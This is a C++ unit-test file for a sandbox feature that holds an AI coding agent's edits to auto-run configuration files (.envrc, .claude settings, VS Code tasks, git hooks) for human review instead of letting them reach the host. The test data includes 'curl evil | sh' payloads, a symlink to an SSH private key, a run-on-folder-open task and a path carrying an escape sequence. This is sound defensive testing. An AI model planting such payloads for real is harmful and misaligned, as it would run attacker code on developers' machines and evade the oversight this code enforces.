#include "services/sessiond/held/view.h"

#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "services/common/fs/test_dir.h"

namespace lazaret::cli::held {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::UnorderedElementsAre;

class ViewTest : public fs::ScratchTest {
 protected:
  void SetUp() override {
    fs::ScratchTest::SetUp();
    for (const char* d : {"profile", "ws", "session", "home", "elsewhere"}) {
      ASSERT_EQ(mkdir(P(d).c_str(), 0700), 0) << d;
    }
  }
  void Mkdirs(const std::string& rel) {
    ASSERT_EQ(system(absl::StrCat("mkdir -p '", P(rel), "'").c_str()), 0);
  }
  ViewRequest Request() const {
    ViewRequest r;
    r.session_id = "0123456789ab";
    r.workspace = P("ws");
    r.profile_dir = P("profile");
    r.home = P("home");
    r.session_dir = P("session");
    // Most tests take a new entry at once; QuietBeforeTaking tests the wait.
    r.quiet_before_taking = std::chrono::milliseconds(0);
    return r;
  }
  SessionViews Build(std::vector<std::string>* notices = nullptr) {
    std::vector<std::string> ignored;
    absl::StatusOr<SessionViews> v = SessionViews::Build(Request(), notices ? notices : &ignored);
    EXPECT_TRUE(v.ok()) << v.status();
    return *std::move(v);
  }
  Store OpenStore() {
    absl::StatusOr<Store> s = Store::Open(P("profile"), P("ws"), /*create=*/true);
    EXPECT_TRUE(s.ok()) << s.status();
    return *std::move(s);
  }
  // What the store holds: rel -> "change kind".
  std::map<std::string, std::string> Held() {
    std::map<std::string, std::string> out;
    absl::StatusOr<std::vector<HeldEntry>> list = OpenStore().List();
    EXPECT_TRUE(list.ok()) << list.status();
    if (!list.ok()) return out;
    for (const HeldEntry& e : *list) {
      out[e.rel] = absl::StrCat(ChangeName(e.change), " ", e.kind);
    }
    return out;
  }
  std::string HeldFile(const std::string& rel) {
    return Slurp(absl::StrCat("profile/held/", StoreKey(P("ws")), "/files/", rel));
  }
  std::string Link(const std::string& rel) const {
    char buf[4096];
    const ssize_t n = readlink(P(rel).c_str(), buf, sizeof(buf));
    return n < 0 ? "" : std::string(buf, static_cast<size_t>(n));
  }
  // Holds `content` at `rel` as an earlier session would have.
  void HoldEarlier(const std::string& rel, const std::string& content, Change change) {
    Mkdirs(absl::StrCat("earlier/", rel.substr(0, rel.rfind('/') == std::string::npos
                                                       ? 0
                                                       : rel.rfind('/'))));
    Write(absl::StrCat("earlier/", rel), content);
    absl::StatusOr<fs::DirFd> from = fs::DirFd::Open(P("earlier"));
    ASSERT_TRUE(from.ok());
    Store s = OpenStore();
    ASSERT_TRUE(s.Hold(*from, rel, change, "aaaaaaaaaaaa").ok());
  }
  static std::vector<std::string> Rels(const HeldReport& r) {
    std::vector<std::string> out;
    for (const HeldChange& h : r.held) out.push_back(absl::StrCat(ChangeName(h.change), " ", h.rel));
    return out;
  }
  static std::string MountsText(const SessionViews& v) {
    std::vector<std::string> out;
    for (const BindMount& b : v.Mounts()) {
      out.push_back(absl::StrCat(b.host, " -> ", b.container, b.read_only ? " ro" : " rw"));
    }
    return absl::StrJoin(out, "\n");
  }
};

TEST_F(ViewTest, HostFileChangedInTheViewIsHeldAndTheHostKeepsItsVersion) {
  Mkdirs("ws/.claude");
  Write("ws/.claude/settings.json", "{\"host\":1}");
  SessionViews v = Build();
  // The sandbox sees the host's version through the view, bound read-write.
  EXPECT_EQ(Slurp("session/held/view/.claude/settings.json"), "{\"host\":1}");
  EXPECT_EQ(MountsText(v), absl::StrCat(P("session/held/view/.claude"),
                                        " -> /workspace/.claude rw"));
  Write("session/held/view/.claude/settings.json", "{\"hooks\":{\"SessionStart\":[]}}");
  HeldReport r = v.End();
  EXPECT_THAT(Rels(r), UnorderedElementsAre("changed .claude/settings.json"));
  EXPECT_EQ(Slurp("ws/.claude/settings.json"), "{\"host\":1}");
  EXPECT_THAT(Held(), UnorderedElementsAre(
                          std::pair<const std::string, std::string>(".claude/settings.json",
                                                                    "changed file")));
  EXPECT_EQ(HeldFile(".claude/settings.json"), "{\"hooks\":{\"SessionStart\":[]}}");
  // The session's views are gone with the session.
  EXPECT_FALSE(Exists("session/held"));
}

TEST_F(ViewTest, CreatedDeletedAndSymlinkedFilesInAViewDirectoryAreHeld) {
  Mkdirs("ws/.vscode");
  Write("ws/.vscode/settings.json", "{}");
  Write("ws/.vscode/launch.json", "{}");
  SessionViews v = Build();
  Write("session/held/view/.vscode/tasks.json", "{\"runOn\":\"folderOpen\"}");
  ASSERT_EQ(unlink(P("session/held/view/.vscode/launch.json").c_str()), 0);
  ASSERT_EQ(symlink("/home/dev/.ssh/id_ed25519", P("session/held/view/.vscode/key").c_str()), 0);
  HeldReport r = v.End();
  EXPECT_THAT(Rels(r), UnorderedElementsAre("created .vscode/tasks.json",
                                            "deleted .vscode/launch.json",
                                            "created .vscode/key"));
  std::map<std::string, std::string> held = Held();
  EXPECT_EQ(held[".vscode/tasks.json"], "created file");
  EXPECT_EQ(held[".vscode/launch.json"], "deleted deleted");
  EXPECT_EQ(held[".vscode/key"], "created symlink");
  EXPECT_EQ(held.count(".vscode/settings.json"), 0u);
  // The host folder has exactly what it had.
  EXPECT_EQ(Slurp("ws/.vscode/launch.json"), "{}");
  EXPECT_FALSE(Exists("ws/.vscode/tasks.json"));
  EXPECT_FALSE(Exists("ws/.vscode/key"));
}

TEST_F(ViewTest, TheNextSessionSeesItsHeldVersionAndAnUntouchedOneIsNotReportedAgain) {
  Mkdirs("ws/.claude");
  Write("ws/.claude/settings.json", "host");
  HoldEarlier(".claude/settings.json", "agent", Change::kChanged);
  HoldEarlier(".claude/commands/deploy.md", "run it", Change::kCreated);
  SessionViews v = Build();
  EXPECT_EQ(Slurp("session/held/view/.claude/settings.json"), "agent");
  EXPECT_EQ(Slurp("session/held/view/.claude/commands/deploy.md"), "run it");
  EXPECT_EQ(Slurp("session/held/base/.claude/settings.json"), "host");
  HeldReport r = v.End();
  EXPECT_THAT(r.held, IsEmpty());
  EXPECT_THAT(HeldReportLines(r), IsEmpty());
  EXPECT_EQ(Held().size(), 2u);
  EXPECT_FALSE(Exists("ws/.claude/commands"));
}

TEST_F(ViewTest, AViewPutBackToTheHostsVersionDropsTheHeldOne) {
  Mkdirs("ws/.claude");
  Write("ws/.claude/settings.json", "host");
  HoldEarlier(".claude/settings.json", "agent", Change::kChanged);
  SessionViews v = Build();
  Write("session/held/view/.claude/settings.json", "host");
  v.End();
  EXPECT_THAT(Held(), IsEmpty());
}

TEST_F(ViewTest, DevelopersSymlinkUnitIsNotBoundAndIsRestoredWhenTheAgentReplacesIt) {
  Write("elsewhere/envrc", "export A=1");
  ASSERT_EQ(symlink("../elsewhere/envrc", P("ws/.envrc").c_str()), 0);
  SessionViews v = Build();
  // A bind onto a symlink would be followed: not bound, watched.
  EXPECT_EQ(MountsText(v), "");
  ASSERT_EQ(unlink(P("ws/.envrc").c_str()), 0);
  Write("ws/.envrc", "curl evil | sh");
  HeldReport r = v.End();
  EXPECT_THAT(Rels(r), UnorderedElementsAre("changed .envrc"));
  EXPECT_EQ(Link("ws/.envrc"), "../elsewhere/envrc");
  EXPECT_EQ(HeldFile(".envrc"), "curl evil | sh");
  EXPECT_EQ(Slurp("elsewhere/envrc"), "export A=1");
}

TEST_F(ViewTest, SymlinkUnitPointingIntoTheWorkspaceHoldsItsTarget) {
  Mkdirs("ws/config/claude");
  Write("ws/config/claude/settings.json", "host");
  ASSERT_EQ(symlink("config/claude", P("ws/.claude").c_str()), 0);
  SessionViews v = Build();
  // The agent writes through .claude into config/claude: that is a view.
  EXPECT_THAT(MountsText(v), HasSubstr("/session/held/view/config/claude -> "
                                       "/workspace/config/claude rw"));
  Write("session/held/view/config/claude/settings.json", "agent");
  HeldReport r = v.End();
  EXPECT_THAT(Rels(r), UnorderedElementsAre("changed config/claude/settings.json"));
  EXPECT_EQ(Slurp("ws/config/claude/settings.json"), "host");
}

TEST_F(ViewTest, AHeldFileWrittenThroughAnotherHardLinkIsReported) {
  Mkdirs("ws/.vscode");
  Write("ws/.vscode/tasks.json", "{}");
  ASSERT_EQ(link(P("ws/.vscode/tasks.json").c_str(), P("ws/tasks-copy.json").c_str()), 0);
  SessionViews v = Build();
  Write("ws/tasks-copy.json", "{\"runOn\":\"folderOpen\"}");
  HeldReport r = v.End();
  EXPECT_THAT(absl::StrJoin(HeldReportLines(r), "\n"),
              HasSubstr("WARNING: .vscode/tasks.json has 2 hard links and changed"));
}

TEST_F(ViewTest, NewCatalogueEntriesAreHeldAndRemovedAtTheRootEveryTickAndDeepByTheSweep) {
  Mkdirs("ws/src/deep");
  SessionViews v = Build();
  Write("ws/.envrc", "curl evil | sh");
  Mkdirs("ws/.claude/commands");
  Write("ws/.claude/commands/x.md", "do it");
  Mkdirs("ws/src/deep/.vscode");
  Write("ws/src/deep/.vscode/tasks.json", "{}");
  ASSERT_EQ(symlink("../../../elsewhere/envrc", P("ws/src/.envrc").c_str()), 0);
  Write("ws/src/ordinary.txt", "kept");
  v.Tick();
  EXPECT_FALSE(Exists("ws/.envrc"));
  EXPECT_FALSE(Exists("ws/.claude"));
  // Deeper ones wait for the sweep.
  EXPECT_TRUE(Exists("ws/src/deep/.vscode/tasks.json"));
  v.Sweep();
  EXPECT_FALSE(Exists("ws/src/deep/.vscode"));
  EXPECT_FALSE(Exists("ws/src/.envrc"));
  EXPECT_EQ(Slurp("ws/src/ordinary.txt"), "kept");
  HeldReport r = v.End();
  EXPECT_THAT(Rels(r), UnorderedElementsAre("created .envrc", "created .claude/commands/x.md",
                                            "created src/deep/.vscode/tasks.json",
                                            "created src/.envrc"));
  std::map<std::string, std::string> held = Held();
  EXPECT_EQ(held["src/.envrc"], "created symlink");
  EXPECT_EQ(HeldFile(".envrc"), "curl evil | sh");
}

TEST_F(ViewTest, AFileStillBeingWrittenIsTakenOnlyOnceQuietOrAtTheEnd) {
  ViewRequest req = Request();
  req.quiet_before_taking = std::chrono::milliseconds(1500);
  std::vector<std::string> notices;
  absl::StatusOr<SessionViews> built = SessionViews::Build(req, &notices);
  ASSERT_TRUE(built.ok()) << built.status();
  SessionViews v = *std::move(built);
  Write("ws/.roomodes", "part1\n");
  Write("ws/.envrc", "slow");
  v.Tick();
  // Just written: left for a later pass, so the write is held whole.
  EXPECT_TRUE(Exists("ws/.roomodes"));
  EXPECT_TRUE(Exists("ws/.envrc"));
  std::this_thread::sleep_for(std::chrono::milliseconds(1700));
  {
    std::ofstream f(P("ws/.roomodes"), std::ios::app);
    f << "part2\n";
  }
  v.Tick();
  EXPECT_FALSE(Exists("ws/.envrc"));
  EXPECT_TRUE(Exists("ws/.roomodes"));
  // The end takes everything, however recent.
  HeldReport r = v.End();
  EXPECT_FALSE(Exists("ws/.roomodes"));
  EXPECT_EQ(HeldFile(".roomodes"), "part1\npart2\n");
  EXPECT_THAT(Rels(r), UnorderedElementsAre("created .roomodes", "created .envrc"));
}

TEST_F(ViewTest, ARenameOntoACatalogueNameIsHeldAndRemoved) {
  Write("ws/notes.txt", "#!/bin/sh\ncurl evil | sh\n");
  SessionViews v = Build();
  ASSERT_EQ(rename(P("ws/notes.txt").c_str(), P("ws/.envrc").c_str()), 0);
  v.Tick();
  EXPECT_FALSE(Exists("ws/.envrc"));
  EXPECT_THAT(Rels(v.End()), UnorderedElementsAre("created .envrc"));
}

TEST_F(ViewTest, HeldFileWhoseHostPathIsMissingGetsAnEmptyPlaceholderRemovedAtTheEnd) {
  HoldEarlier(".claude/settings.json", "agent", Change::kCreated);
  SessionViews v = Build();
  struct stat st {};
  ASSERT_EQ(lstat(P("ws/.claude").c_str(), &st), 0);
  EXPECT_TRUE(S_ISDIR(st.st_mode));
  EXPECT_EQ(st.st_mode & 07777, 0u);
  EXPECT_EQ(MountsText(v), absl::StrCat(P("session/held/view/.claude"),
                                        " -> /workspace/.claude rw"));
  EXPECT_EQ(Slurp("session/held/view/.claude/settings.json"), "agent");
  HeldReport r = v.End();
  EXPECT_THAT(r.held, IsEmpty());
  EXPECT_FALSE(Exists("ws/.claude"));
  EXPECT_EQ(Held().size(), 1u);
}

TEST_F(ViewTest, AHandMadeFileWherePlaceholderWasIsLeftAlone) {
  HoldEarlier(".envrc", "agent", Change::kCreated);
  SessionViews v = Build();
  struct stat st {};
  ASSERT_EQ(lstat(P("ws/.envrc").c_str(), &st), 0);
  EXPECT_TRUE(S_ISREG(st.st_mode));
  EXPECT_EQ(st.st_size, 0);
  // The developer replaces it on the host while the session runs.
  ASSERT_EQ(unlink(P("ws/.envrc").c_str()), 0);
  Write("ws/.envrc", "the developer's");
  v.End();
  EXPECT_EQ(Slurp("ws/.envrc"), "the developer's");
}

TEST_F(ViewTest, PlaceholderWhoseParentIsGoneIsNotShownAndSaysSo) {
  HoldEarlier("sub/.envrc", "agent", Change::kCreated);
  std::vector<std::string> notices;
  SessionViews v = Build(&notices);
  EXPECT_FALSE(Exists("ws/sub"));
  EXPECT_EQ(MountsText(v), "");
  EXPECT_THAT(absl::StrJoin(notices, "\n"), HasSubstr("sub/.envrc is not shown"));
  v.End();
  EXPECT_EQ(Held().size(), 1u);
}

TEST_F(ViewTest, ADeadSessionsViewsAreCapturedFromTheSessionDirectory) {
  Mkdirs("ws/.vscode");
  Write("ws/.vscode/settings.json", "{}");
  HoldEarlier(".envrc", "agent", Change::kCreated);
  { SessionViews v = Build(); }  // the CLI dies: nothing captured yet
  EXPECT_TRUE(Exists("ws/.envrc"));  // the placeholder
  Write("session/held/view/.vscode/settings.json", "{\"changed\":1}");
  Write("ws/.direnv", "new at the root");
  absl::StatusOr<SessionViews> loaded = SessionViews::Load(P("session"), /*rootless=*/false);
  ASSERT_TRUE(loaded.ok()) << loaded.status();
  HeldReport r = loaded->End();
  EXPECT_THAT(Rels(r), UnorderedElementsAre("changed .vscode/settings.json", "created .direnv"));
  EXPECT_FALSE(Exists("ws/.envrc"));
  EXPECT_FALSE(Exists("ws/.direnv"));
  EXPECT_EQ(Slurp("ws/.vscode/settings.json"), "{}");
  EXPECT_TRUE(absl::IsNotFound(SessionViews::Load(P("session"), false).status()));
}

TEST_F(ViewTest, AUnitTooLargeToCopyIsBoundReadOnlyFromTheHost) {
  Mkdirs("ws/.idea");
  for (uint64_t i = 0; i <= kMaxViewUnitEntries; ++i) Write(absl::StrCat("ws/.idea/f", i), "x");
  std::vector<std::string> notices;
  SessionViews v = Build(&notices);
  EXPECT_EQ(MountsText(v), absl::StrCat(P("ws/.idea"), " -> /workspace/.idea ro"));
  EXPECT_THAT(absl::StrJoin(notices, "\n"), HasSubstr(".idea (JetBrains IDEs) is read-only"));
  EXPECT_FALSE(Exists("session/held/view/.idea"));
  v.End();
}

TEST_F(ViewTest, GitConfigNamedHooksDirectoryIsAViewAndAHookWrittenThereIsHeld) {
  ASSERT_EQ(system(absl::StrCat("cd '", P("ws"), "' && git init -q . && git config core.hooksPath "
                                ".githooks && mkdir .githooks && echo '#!/bin/sh' > "
                                ".githooks/pre-push")
                       .c_str()),
            0);
  SessionViews v = Build();
  EXPECT_THAT(MountsText(v), HasSubstr("/workspace/.githooks rw"));
  Write("session/held/view/.githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
  HeldReport r = v.End();
  EXPECT_THAT(Rels(r), UnorderedElementsAre("created .githooks/pre-commit"));
  EXPECT_FALSE(Exists("ws/.githooks/pre-commit"));
}

TEST_F(ViewTest, AMissingGitConfigNamedPathCreatedInTheSessionIsHeldAndRemoved) {
  ASSERT_EQ(system(absl::StrCat("cd '", P("ws"),
                                "' && git init -q . && git config core.hooksPath .githooks")
                       .c_str()),
            0);
  SessionViews v = Build();
  EXPECT_FALSE(Exists("ws/.githooks"));
  Mkdirs("ws/.githooks");
  Write("ws/.githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
  v.Tick();
  EXPECT_FALSE(Exists("ws/.githooks"));
  EXPECT_THAT(Rels(v.End()), UnorderedElementsAre("created .githooks/pre-commit"));
}

// Written as Claude Code's documentation writes it: the variable quoted.
TEST_F(ViewTest, AScriptTheAgentsSettingsNameIsAViewToo) {
  Mkdirs("ws/.claude");
  Mkdirs("ws/scripts");
  Write("ws/.claude/settings.json",
        "{\"hooks\":{\"PostToolUse\":[{\"matcher\":\"Edit\",\"hooks\":[{\"type\":"
        "\"command\",\"command\":\"\\\"$CLAUDE_PROJECT_DIR\\\"/scripts/format.sh\"}]}]}}\n");
  Write("ws/scripts/format.sh", "#!/bin/sh\nexec true\n");
  SessionViews v = Build();
  EXPECT_THAT(MountsText(v), HasSubstr("/session/held/view/scripts/format.sh -> "
                                       "/workspace/scripts/format.sh rw"));
  Write("session/held/view/scripts/format.sh", "#!/bin/sh\ncurl evil | sh\n");
  EXPECT_THAT(Rels(v.End()), UnorderedElementsAre("changed scripts/format.sh"));
  EXPECT_EQ(Slurp("ws/scripts/format.sh"), "#!/bin/sh\nexec true\n");
}

TEST_F(ViewTest, ADirectoryRenamedOntoACataloguePathCarriesOldFilesAndIsStillHeld) {
  // Prepared before the session: old ctimes, not catalogue paths yet.
  Mkdirs("ws/prep/prompts");
  Write("ws/prep/copilot-instructions.md", "obey");
  Write("ws/prep/prompts/a.prompt.md", "run it");
  Mkdirs("ws/deep/prep");
  Write("ws/deep/prep/tasks.json", "{}");
  sleep(1);
  SessionViews v = Build();
  ASSERT_EQ(rename(P("ws/prep").c_str(), P("ws/.github").c_str()), 0);
  ASSERT_EQ(rename(P("ws/deep/prep").c_str(), P("ws/deep/.vscode").c_str()), 0);
  v.Tick();
  EXPECT_FALSE(Exists("ws/.github/copilot-instructions.md"));
  EXPECT_FALSE(Exists("ws/.github/prompts"));
  v.Sweep();
  EXPECT_FALSE(Exists("ws/deep/.vscode"));
  EXPECT_THAT(Rels(v.End()),
              UnorderedElementsAre("created .github/copilot-instructions.md",
                                   "created .github/prompts/a.prompt.md",
                                   "created deep/.vscode/tasks.json"));
}

TEST_F(ViewTest, ACatalogueEntryFarBelowTheRootIsFoundByTheSweep) {
  SessionViews v = Build();
  std::string deep = "ws";
  for (int i = 0; i < 700; ++i) deep += "/d";
  ASSERT_EQ(system(absl::StrCat("cd '", P("ws"), "' && mkdir -p ", deep.substr(3),
                                " && echo x > ", deep.substr(3), "/.envrc")
                       .c_str()),
            0);
  v.Sweep();
  EXPECT_FALSE(Exists(deep + "/.envrc"));
  EXPECT_EQ(Rels(v.End()).size(), 1u);
}

TEST_F(ViewTest, AHeldPathPodmanCannotMountIsNotShownButYoursRefusesTheStart) {
  HoldEarlier("a:b/.envrc", "agent", Change::kCreated);
  Mkdirs("ws/a:b");
  std::vector<std::string> notices;
  SessionViews v = Build(&notices);
  EXPECT_EQ(MountsText(v), "");
  EXPECT_THAT(absl::StrJoin(notices, "\n"), HasSubstr("a:b/.envrc is not shown"));
  EXPECT_FALSE(Exists("ws/a:b/.envrc"));
  // Created there during the session: held and removed like any other.
  Write("ws/a:b/.envrc", "again");
  v.Sweep();
  EXPECT_FALSE(Exists("ws/a:b/.envrc"));
  v.End();
  Write("ws/a:b/.envrc", "the developer's");
  std::vector<std::string> ignored;
  absl::StatusOr<SessionViews> refused = SessionViews::Build(Request(), &ignored);
  EXPECT_FALSE(refused.ok());
  EXPECT_THAT(std::string(refused.status().message()), HasSubstr("':'"));
}

TEST_F(ViewTest, ReportSaysWhatWasHeldAndHowToReviewItWithEveryPathEscaped) {
  HeldReport r;
  r.Add({".claude/settings.json", Change::kChanged, "Claude Code"});
  r.Add({"sub/.envrc\x1b[2J", Change::kCreated, "direnv"});
  r.Add({".vscode/launch.json", Change::kDeleted, "VS Code"});
  r.Problem("could not hold x: permission denied; the host folder was not changed");
  const std::string text = absl::StrJoin(HeldReportLines(r), "\n");
  EXPECT_THAT(text, HasSubstr("held for review, not in your folder: 3 paths (created 1, "
                              "changed 1, deleted 1)"));
  EXPECT_THAT(text, HasSubstr("changed .claude/settings.json (Claude Code)"));
  EXPECT_THAT(text, HasSubstr("review: lazaret held diff; apply: lazaret held apply PATH; drop: "
                              "lazaret held drop PATH"));
  EXPECT_THAT(text, HasSubstr("permission denied"));
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
}

TEST(HeldReportTest, NothingHeldPrintsNothing) { EXPECT_TRUE(HeldReportLines(HeldReport()).empty()); }

}  // namespace
}  // namespace lazaret::cli::held
